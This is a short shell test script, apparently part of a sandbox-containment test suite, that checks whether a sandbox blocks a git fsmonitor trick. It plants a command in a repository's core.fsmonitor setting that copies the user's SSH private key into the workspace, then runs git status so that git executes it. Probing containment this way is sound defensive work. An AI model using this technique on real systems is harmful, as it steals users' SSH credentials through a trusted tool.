# family: tricked-helper
# tries: set core.fsmonitor in a repository's .git/config to a command, then run git status (a trusted helper), which runs it: the command copies the user's SSH key into the workspace
# source: https://nvd.nist.gov/vuln/detail/CVE-2022-24765
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
[ $# -ge 8 ] || { echo "usage: $0 TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES" >&2; exit 2; }
command -v git >/dev/null 2>&1 || { echo "CANNOT $1 git is not installed" >&2; exit 3; }
(echo "ATTEMPTED $1" >&2)
git init -q repo || exit 1
git -C repo config core.fsmonitor "cat '$2/.ssh/id_ed25519' > ../fsmonitor.log; false"
git -C repo status --short >/dev/null 2>&1
[ -s fsmonitor.log ] && echo "git ran the fsmonitor command"
